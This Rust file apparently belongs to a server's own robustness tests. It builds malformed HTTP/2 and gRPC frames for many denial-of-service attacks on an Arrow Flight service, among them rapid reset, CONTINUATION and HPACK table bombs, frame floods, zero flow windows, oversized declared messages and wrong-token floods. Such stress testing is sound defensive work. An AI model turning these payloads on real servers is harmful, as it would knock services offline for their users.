//! Attacks on gRPC and the HTTP/2 below it. The frames are built here, because client libraries send no invalid ones.

use super::super::super::observed_server::QueryClient;
use super::{WireAttack, WireFlow, define_attack};

pub(super) const ATTACKS: &[WireAttack] = &[
    define_attack("connections that say nothing", 300, |_| Vec::new(), WireFlow::Hold),
    define_attack("half a preface", 300, |_| PREFACE[..20].to_vec(), WireFlow::Hold),
    define_attack("preface in single bytes", 100, |_| Vec::new(), WireFlow::Drip(|_| PREFACE.to_vec())),
    define_attack("connections that answer pings", 300, |_| connection_preface(), WireFlow::Flood(ping_answers, 1)),
    define_attack(
        "message declared 4 GiB",
        8,
        |client| {
            [connection_preface(), call_headers(client, 1, DO_PUT), data_frame(1, &[0, 0xff, 0xff, 0xff, 0xff])]
                .concat()
        },
        WireFlow::Flood(|_, _| data_frame(1, &[b'x'; 16_000]), 100_000),
    ),
    define_attack("messages declared 4 GiB on all streams", 8, many_lying_streams, WireFlow::Hold),
    define_attack(
        "message marked as compressed",
        8,
        |client| {
            [connection_preface(), call_headers(client, 1, DO_PUT), data_frame(1, &[1, 0, 0, 0, 5, 1, 2, 3, 4, 5])]
                .concat()
        },
        WireFlow::Hold,
    ),
    define_attack(
        "endless DoPut",
        8,
        |client| [connection_preface(), call_headers(client, 1, DO_PUT)].concat(),
        WireFlow::Flood(|_, _| data_frame(1, &grpc_message(&[0x12, 1, b'x']).repeat(1000)), 10_000),
    ),
    define_attack(
        "endless DoExchange",
        8,
        |client| [connection_preface(), call_headers(client, 1, DO_EXCHANGE)].concat(),
        WireFlow::Flood(|_, _| data_frame(1, &grpc_message(&[0x12, 1, b'x']).repeat(1000)), 10_000),
    ),
    define_attack(
        "endless handshake",
        8,
        |client| [connection_preface(), call_headers(client, 1, HANDSHAKE)].concat(),
        WireFlow::Flood(|_, _| data_frame(1, &grpc_message(&[8, 1]).repeat(1000)), 10_000),
    ),
    define_attack(
        "empty data",
        8,
        |client| [connection_preface(), call_headers(client, 1, DO_PUT)].concat(),
        WireFlow::Flood(|_, _| data_frame(1, &[]).repeat(10_000), 1000),
    ),
    define_attack(
        "empty messages",
        8,
        |client| [connection_preface(), call_headers(client, 1, DO_PUT)].concat(),
        WireFlow::Flood(|_, _| data_frame(1, &grpc_message(&[]).repeat(3000)), 1000),
    ),
    define_attack(
        "many streams",
        8,
        |client| [connection_preface(), many_calls(client, 2000)].concat(),
        WireFlow::Hold,
    ),
    define_attack("rapid reset", 8, |_| connection_preface(), WireFlow::Flood(rapid_resets, 1)),
    define_attack(
        "flood of settings",
        8,
        |_| connection_preface(),
        WireFlow::Flood(|_, _| http2_frame(SETTINGS, 0, 0, &[]).repeat(10_000), 500),
    ),
    define_attack(
        "flood of settings unread",
        8,
        |_| connection_preface(),
        WireFlow::FloodUnread(|_, _| http2_frame(SETTINGS, 0, 0, &[]).repeat(10_000), 500),
    ),
    define_attack(
        "flood of pings unread",
        8,
        |_| connection_preface(),
        WireFlow::FloodUnread(|_, _| http2_frame(PING, 0, 0, &[1; 8]).repeat(10_000), 500),
    ),
    define_attack(
        "flood of priorities",
        8,
        |_| connection_preface(),
        WireFlow::Flood(|_, _| http2_frame(PRIORITY, 0, 1, &[0, 0, 0, 3, 1]).repeat(10_000), 500),
    ),
    define_attack(
        "flood of window updates",
        8,
        |_| connection_preface(),
        WireFlow::Flood(|_, _| http2_frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]).repeat(10_000), 500),
    ),
    define_attack(
        "headers without an end",
        8,
        |_| [connection_preface(), http2_frame(HEADERS, 0, 1, &[])].concat(),
        WireFlow::Flood(
            |_, _| http2_frame(CONTINUATION, 0, 1, &literal_header("a", &"b".repeat(100)).repeat(100)),
            10_000,
        ),
    ),
    define_attack("headers of one table entry", 8, |_| connection_preface(), WireFlow::Flood(table_bomb, 1)),
    define_attack(
        "trailers without an end",
        8,
        |client| [connection_preface(), call_headers(client, 1, DO_PUT)].concat(),
        WireFlow::Flood(|_, _| http2_frame(HEADERS, END_HEADERS, 1, &literal_header("a", "b")).repeat(1000), 1000),
    ),
    define_attack(
        "frame of 16 MB",
        8,
        |_| [connection_preface(), vec![0xff, 0xff, 0xff, DATA, 0, 0, 0, 0, 1]].concat(),
        WireFlow::Flood(|_, _| vec![0; 1 << 20], 100),
    ),
    define_attack(
        "windows of 0",
        8,
        |client| [preface_with(&[0, 4, 0, 0, 0, 0]), calls_of(client, 200, GET_FLIGHT_INFO, &[0x1a, 0])].concat(),
        WireFlow::Hold,
    ),
    define_attack(
        "window beyond its limit",
        8,
        |_| [connection_preface(), http2_frame(WINDOW_UPDATE, 0, 0, &[0x7f, 0xff, 0xff, 0xff]).repeat(3)].concat(),
        WireFlow::ReadAnswer,
    ),
    define_attack(
        "descriptors of 3 MB",
        8,
        |client| {
            let message = [&[0x12, 0x80, 0x80, 0xb7, 1][..], &vec![b'x'; 0x2d_c000]].concat();
            let parts: Vec<u8> = grpc_message(&message).chunks(16_000).flat_map(|part| data_frame(1, part)).collect();
            [connection_preface(), call_headers(client, 1, GET_FLIGHT_INFO), parts].concat()
        },
        WireFlow::Hold,
    ),
    define_attack(
        "paths that are not there",
        8,
        |client| [connection_preface(), calls_of(client, 1000, "/no/such", &[])].concat(),
        WireFlow::ReadAnswer,
    ),
    define_attack("wrong tokens", 8, |_| connection_preface(), WireFlow::Flood(wrong_tokens, 1)),
    define_attack("connections one after the other", 8, |_| connection_preface(), WireFlow::Reconnect(5000)),
];

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// Types and flags of frames: RFC 9113, 6.
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RESET: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const ACK: u8 = 1;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const DO_PUT: &str = "/arrow.flight.protocol.FlightService/DoPut";
const DO_EXCHANGE: &str = "/arrow.flight.protocol.FlightService/DoExchange";
const HANDSHAKE: &str = "/arrow.flight.protocol.FlightService/Handshake";
const GET_FLIGHT_INFO: &str = "/arrow.flight.protocol.FlightService/GetFlightInfo";

fn http2_frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

fn preface_with(settings: &[u8]) -> Vec<u8> {
    [PREFACE, &http2_frame(SETTINGS, 0, 0, settings), &http2_frame(SETTINGS, ACK, 0, &[])].concat()
}

fn connection_preface() -> Vec<u8> {
    preface_with(&[])
}

// RFC 7541, 6.2.2: a field that is not indexed, with a new name; both are shorter than 127 bytes.
fn literal_header(name: &str, value: &str) -> Vec<u8> {
    [&[0, name.len() as u8][..], name.as_bytes(), &[value.len() as u8], value.as_bytes()].concat()
}

fn call_with(token: &str, stream: u32, path: &str) -> Vec<u8> {
    let fields = [
        literal_header(":method", "POST"),
        literal_header(":scheme", "http"),
        literal_header(":authority", "localhost"),
        literal_header(":path", path),
        literal_header("content-type", "application/grpc"),
        literal_header("te", "trailers"),
        literal_header("authorization", &format!("Bearer {token}")),
    ];
    http2_frame(HEADERS, END_HEADERS, stream, &fields.concat())
}

fn call_headers(client: &QueryClient, stream: u32, path: &str) -> Vec<u8> {
    call_with(&client.token, stream, path)
}

fn many_calls(client: &QueryClient, count: u32) -> Vec<u8> {
    (0..count).flat_map(|number| call_headers(client, 2 * number + 1, DO_PUT)).collect()
}

fn calls_of(client: &QueryClient, count: u32, path: &str, message: &[u8]) -> Vec<u8> {
    let whole = |number: u32| {
        let stream = 2 * number + 1;
        [call_headers(client, stream, path), http2_frame(DATA, END_STREAM, stream, &grpc_message(message))].concat()
    };
    (0..count).flat_map(whole).collect()
}

fn data_frame(stream: u32, bytes: &[u8]) -> Vec<u8> {
    http2_frame(DATA, 0, stream, bytes)
}

fn grpc_message(bytes: &[u8]) -> Vec<u8> {
    [&[0][..], &(bytes.len() as u32).to_be_bytes(), bytes].concat()
}

fn many_lying_streams(client: &QueryClient) -> Vec<u8> {
    let lying = |number: u32| {
        let stream = 2 * number + 1;
        [call_headers(client, stream, DO_PUT), data_frame(stream, &[0, 0xff, 0xff, 0xff, 0xff, 1])].concat()
    };
    [connection_preface(), (0..500).flat_map(lying).collect()].concat()
}

fn rapid_resets(client: &QueryClient, _: usize) -> Vec<u8> {
    let reset = |number: u32| {
        let stream = 2 * number + 1;
        [call_headers(client, stream, DO_PUT), http2_frame(RESET, 0, stream, &[0, 0, 0, 8])].concat()
    };
    (0..50_000).flat_map(reset).collect()
}

fn wrong_tokens(_: &QueryClient, _: usize) -> Vec<u8> {
    let wrong = |number: u32| {
        let stream = 2 * number + 1;
        [call_with("echolake_0", stream, GET_FLIGHT_INFO), http2_frame(DATA, END_STREAM, stream, &grpc_message(&[]))]
            .concat()
    };
    (0..20_000).flat_map(wrong).collect()
}

// The server's pings have their own payload; these are answers to none of them.
fn ping_answers(_: &QueryClient, _: usize) -> Vec<u8> {
    http2_frame(PING, ACK, 0, &[0; 8])
}

// One long field in the table, and then headers that name it thousands of times by one byte each (index 62).
fn table_bomb(_: &QueryClient, _: usize) -> Vec<u8> {
    let entry = [&[0x40, 1, b'a', 0x7f, 0x81, 0x1e][..], &vec![b'b'; 4000]].concat();
    let bomb = |number: u32| http2_frame(HEADERS, END_HEADERS, 2 * number + 3, &[0xbe; 16_000]);
    [http2_frame(HEADERS, END_HEADERS, 1, &entry), (0..500).flat_map(bomb).collect()].concat()
}
